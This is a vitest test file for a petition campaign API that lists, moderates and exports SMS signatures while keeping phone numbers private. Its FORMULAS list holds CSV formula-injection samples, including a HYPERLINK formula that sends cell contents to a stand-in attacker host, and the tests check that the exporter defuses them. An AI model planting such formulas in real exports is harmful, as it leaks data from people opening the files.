import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiAs, staffToken } from '../helpers/api.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { createTestDatabase, type TestDatabase } from '../helpers/database.js';
import { listenForTexts, PUBLIC_BASE_URL, type TextFn } from '../helpers/phone.js';

let database: TestDatabase;
let server: TestApp;
let text: TextFn;
let campaigner: { id: number; token: string };
let api: ReturnType<typeof apiAs>;
let viewerApi: ReturnType<typeof apiAs>;
let campaignId: string;

const SIGNERS = ['Jane Smith', 'Peter Brown', 'Анна Иванова', 'Nina Volkova', 'Sean O’Brien'];
const HELD = 'Fuck Face';
const LATE = 'Late Comer';
/** Names a supporter could never sign with, put straight into the table to test the exporter. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(A1)',
  '\tTabbed',
  '\rReturn',
];

/** Every number that texts; none may appear in a list or an export. */
const numbers: string[] = [];
let nextNumber = 100;
function phone(): string {
  const number = `+447700900${nextNumber++}`;
  numbers.push(number);
  return number;
}

interface ListedSignature {
  id: string;
  name: string;
  status: string;
  holdReason: string | null;
  signedAt: string;
  batchId: string | null;
}

async function signatureIds(status?: string): Promise<Record<string, string>> {
  const { rows } = await database.pool.query(
    `SELECT id, name FROM signatures WHERE campaign_id = $1 ${status ? 'AND status = $2' : ''} ORDER BY id`,
    status ? [campaignId, status] : [campaignId],
  );
  return Object.fromEntries(rows.map((row) => [row.name, String(row.id)]));
}

async function insertSignature(name: string | null, status: string): Promise<string> {
  const supporter = await database.pool.query('INSERT INTO supporters (source) VALUES ($1) RETURNING id', [
    'import:test',
  ]);
  const { rows } = await database.pool.query(
    'INSERT INTO signatures (campaign_id, supporter_id, name, status) VALUES ($1, $2, $3, $4) RETURNING id',
    [campaignId, supporter.rows[0].id, name, status],
  );
  return String(rows[0].id);
}

async function listAll(query: string): Promise<ListedSignature[]> {
  const items: ListedSignature[] = [];
  let cursor: string | null = null;
  do {
    const suffix: string = cursor ? `&cursor=${cursor}` : '';
    const response = await viewerApi({
      method: 'GET',
      url: `/api/v1/campaigns/${campaignId}/signatures?limit=2${query}${suffix}`,
    });
    expect(response.statusCode, response.body).toBe(200);
    for (const number of numbers) expect(response.body).not.toContain(number.slice(1));
    const page = response.json();
    expect(page.items.length).toBeLessThanOrEqual(2);
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return items;
}

async function exportCsv(query = '') {
  const response = await viewerApi({
    method: 'GET',
    url: `/api/v1/campaigns/${campaignId}/signatures.csv${query}`,
  });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

beforeAll(async () => {
  database = await createTestDatabase();
  server = await startTestApp(database, { env: { PUBLIC_BASE_URL } });
  text = await listenForTexts(server);
  campaigner = await staffToken(database, 'campaigner');
  api = apiAs(server.app, campaigner.token);
  viewerApi = apiAs(server.app, (await staffToken(database, 'viewer')).token);

  const created = await api({
    method: 'POST',
    url: '/api/v1/campaigns',
    payload: {
      keyword: 'Magamed',
      title: 'Magamed Abubakarov',
      letter: { body: 'Investigate the threats.' },
      targets: [{ name: 'Prosecutor General', salutation: 'Dear Sir', faxNumbers: ['+442079460111'] }],
    },
  });
  campaignId = created.json().id;
  await api({ method: 'POST', url: `/api/v1/campaigns/${campaignId}/open` });
  for (const name of SIGNERS) await text(phone(), `MAGAMED ${name}`);
  await text(phone(), `MAGAMED ${HELD}`);
  for (const name of FORMULAS) await insertSignature(name, 'valid');
}, 30_000);

afterAll(async () => {
  await server.close();
  await database.drop();
});

describe('GET /api/v1/campaigns/:id/signatures', () => {
  it('lists names and status in signing order, page by page, never a number', async () => {
    const items = await listAll('');
    expect(items.map((item) => item.name)).toEqual([...SIGNERS, HELD, ...FORMULAS]);
    expect(items.map((item) => Number(item.id))).toEqual(
      items.map((item) => Number(item.id)).sort((a, b) => a - b),
    );
    expect(items[0]).toEqual({
      id: expect.stringMatching(/^\d+$/),
      name: 'Jane Smith',
      status: 'valid',
      holdReason: null,
      signedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      batchId: null,
    });
    expect(Object.keys(items[0] as object).sort()).toEqual([
      'batchId',
      'holdReason',
      'id',
      'name',
      'signedAt',
      'status',
    ]);
  });

  it('lists the held names for review with ?status=held', async () => {
    const held = await listAll('&status=held');
    expect(held).toEqual([expect.objectContaining({ name: HELD, status: 'held', holdReason: 'profanity' })]);
  });

  it('refuses an unknown status (400) and answers 404 for an unknown campaign', async () => {
    const bad = await viewerApi({
      method: 'GET',
      url: `/api/v1/campaigns/${campaignId}/signatures?status=deleted`,
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.code).toBe('validation_failed');
    const missing = await viewerApi({ method: 'GET', url: '/api/v1/campaigns/999999/signatures' });
    expect(missing.statusCode).toBe(404);
  });
});

describe('moderation', () => {
  it('holds a valid name, releases it, hides it and releases it again, recording who and when', async () => {
    const id = (await signatureIds())['Peter Brown'] as string;
    const held = await api({ method: 'POST', url: `/api/v1/signatures/${id}/hold` });
    expect(held.statusCode).toBe(200);
    expect(held.json()).toMatchObject({
      id,
      campaignId,
      name: 'Peter Brown',
      status: 'held',
      holdReason: 'staff',
      moderatedBy: String(campaigner.id),
      moderatedAt: expect.any(String),
    });
    expect((await api({ method: 'POST', url: `/api/v1/signatures/${id}/hold` })).json().status).toBe('held');
    const released = await api({ method: 'POST', url: `/api/v1/signatures/${id}/release` });
    expect(released.json()).toMatchObject({ status: 'valid', holdReason: null });
    expect((await api({ method: 'POST', url: `/api/v1/signatures/${id}/hide` })).json().status).toBe(
      'hidden',
    );
    expect((await api({ method: 'POST', url: `/api/v1/signatures/${id}/release` })).json().status).toBe(
      'valid',
    );
  });

  it('releases a name the filter held, and hides one', async () => {
    const ids = await signatureIds();
    const released = await api({ method: 'POST', url: `/api/v1/signatures/${ids[HELD]}/release` });
    expect(released.json()).toMatchObject({ status: 'valid', holdReason: null });
    const hidden = await api({ method: 'POST', url: `/api/v1/signatures/${ids['Nina Volkova']}/hide` });
    expect(hidden.json()).toMatchObject({ status: 'hidden' });
    const page = await viewerApi({
      method: 'GET',
      url: `/api/v1/campaigns/${campaignId}/signatures?status=hidden`,
    });
    expect(page.json().items.map((item: ListedSignature) => item.name)).toContain('Nina Volkova');
  });

  it('audits each change by id and status only, never the name', async () => {
    const { rows } = await database.pool.query(
      "SELECT action, entity_type, entity_id, staff_id, before, after FROM audit_log WHERE action LIKE 'signature.%' ORDER BY id",
    );
    expect(rows.length).toBeGreaterThanOrEqual(6);
    const id = (await signatureIds())['Peter Brown'];
    expect(rows[0]).toEqual({
      action: 'signature.hold',
      entity_type: 'signature',
      entity_id: id,
      staff_id: String(campaigner.id),
      before: { status: 'valid' },
      after: { status: 'held' },
    });
    const audit = JSON.stringify(rows);
    for (const name of [...SIGNERS, HELD]) {
      for (const part of name.split(' ')) expect(audit).not.toContain(part);
    }
  });

  it('never makes a late signature valid, nor changes one already faxed (409)', async () => {
    await api({ method: 'POST', url: `/api/v1/campaigns/${campaignId}/close` });
    await text(phone(), `MAGAMED ${LATE}`);
    const late = (await signatureIds('late'))[LATE];
    for (const action of ['release', 'hold', 'hide']) {
      const response = await api({ method: 'POST', url: `/api/v1/signatures/${late}/${action}` });
      expect(response.statusCode).toBe(409);
      expect(response.json().error.code).toBe('invalid_transition');
    }

    const batch = await database.pool.query(
      "INSERT INTO fax_batches (campaign_id, reason, signature_count) VALUES ($1, 'close', 1) RETURNING id",
      [campaignId],
    );
    const faxed = (await signatureIds())['Jane Smith'];
    await database.pool.query('UPDATE signatures SET batch_id = $1 WHERE id = $2', [batch.rows[0].id, faxed]);
    for (const action of ['hold', 'hide']) {
      const response = await api({ method: 'POST', url: `/api/v1/signatures/${faxed}/${action}` });
      expect(response.statusCode).toBe(409);
      expect(response.json().error).toEqual({
        code: 'already_faxed',
        message: 'This signature has gone out in a fax batch; it cannot change.',
      });
    }
    const listed = await viewerApi({
      method: 'GET',
      url: `/api/v1/campaigns/${campaignId}/signatures?limit=1`,
    });
    expect(listed.json().items[0]).toMatchObject({ name: 'Jane Smith', batchId: String(batch.rows[0].id) });
  });

  it('cannot release an erased signature: it has no name to fax', async () => {
    const erased = await insertSignature(null, 'hidden');
    const response = await api({ method: 'POST', url: `/api/v1/signatures/${erased}/release` });
    expect(response.statusCode).toBe(409);
    expect(response.json().error.code).toBe('name_erased');
    const hidden = await viewerApi({
      method: 'GET',
      url: `/api/v1/campaigns/${campaignId}/signatures?status=hidden`,
    });
    expect(hidden.json().items).toContainEqual(
      expect.objectContaining({ id: erased, name: '', status: 'hidden' }),
    );
  });

  it('answers 404 for an unknown signature and 403 to a viewer', async () => {
    expect((await api({ method: 'POST', url: '/api/v1/signatures/999999/hold' })).statusCode).toBe(404);
    const id = (await signatureIds())['Sean O’Brien'];
    for (const action of ['hold', 'release', 'hide']) {
      const response = await viewerApi({ method: 'POST', url: `/api/v1/signatures/${id}/${action}` });
      expect(response.statusCode).toBe(403);
    }
    const { rows } = await database.pool.query('SELECT status FROM signatures WHERE id = $1', [id]);
    expect(rows[0].status).toBe('valid');
  });
});

describe('GET /api/v1/campaigns/:id/signatures.csv', () => {
  it('exports number, name, status and signing time as an attachment named after the keyword', async () => {
    const response = await exportCsv();
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="magamed-signatures.csv"');
    expect(response.body.startsWith('\uFEFFrow,name,status,signed_at\n')).toBe(true);
    for (const number of numbers) expect(response.body).not.toContain(number.slice(1));

    const records: string[][] = parse(response.body, { bom: true });
    expect(records[0]).toEqual(['row', 'name', 'status', 'signed_at']);
    const rows = records.slice(1);
    expect(rows.map((row) => row[0])).toEqual(rows.map((_, index) => String(index + 1)));
    expect(rows.map((row) => row[1]).slice(0, SIGNERS.length)).toEqual(SIGNERS);
    expect(rows.find((row) => row[1] === LATE)?.[2]).toBe('late');
    expect(rows.find((row) => row[1] === 'Nina Volkova')?.[2]).toBe('hidden');
    for (const row of rows) expect(new Date(row[3] as string).toISOString()).toBe(row[3]);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const rows: string[][] = parse((await exportCsv()).body, { bom: true, relax_column_count: false });
    const names = rows.map((row) => row[1]);
    for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
    for (const name of names) expect(name).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('shows an erased name as an empty cell, and filters by status', async () => {
    const rows: string[][] = parse((await exportCsv('?status=hidden')).body, { bom: true });
    expect(rows.slice(1).map((row) => [row[0], row[1], row[2]])).toEqual([
      ['1', 'Nina Volkova', 'hidden'],
      ['2', '', 'hidden'],
    ]);
    const response = await exportCsv('?status=hidden');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="magamed-signatures-hidden.csv"',
    );
  });

  it('answers 404 as JSON for an unknown campaign', async () => {
    const response = await viewerApi({ method: 'GET', url: '/api/v1/campaigns/999999/signatures.csv' });
    expect(response.statusCode).toBe(404);
    expect(response.json().error.code).toBe('not_found');
  });
});
